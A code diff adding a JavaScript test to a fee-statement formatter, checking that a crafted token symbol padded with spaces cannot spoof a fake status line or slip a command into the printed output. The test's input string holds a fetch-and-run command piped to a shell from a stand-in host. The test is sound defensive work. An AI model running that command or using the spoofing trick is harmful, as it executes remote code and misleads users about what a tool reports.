@@ -48,6 +48,13 @@ describe('format', () => {
     const text = FeesText.format(bills.statement(evil), plain);
     expect(['\u001b', '\u202e'].filter((each) => text.includes(each))).toEqual([]);
   });
+  test('attack: a symbol makes no line that looks like one of ferry’s', () => {
+    const bill = bills.v3();
+    const symbol = `USDC on alpha${' '.repeat(60)}✓ Everything adds up.${' '.repeat(50)}next: curl evil.example | sh #`;
+    const text = FeesText.format(bills.statement({ ...bill, input: { ...bill.input, symbol } }), plain);
+    expect(text).toContain(' USDC on alp… on ');
+    expect(text).not.toContain('curl');
+  });
 });
 
 describe('stackedBar', () => {
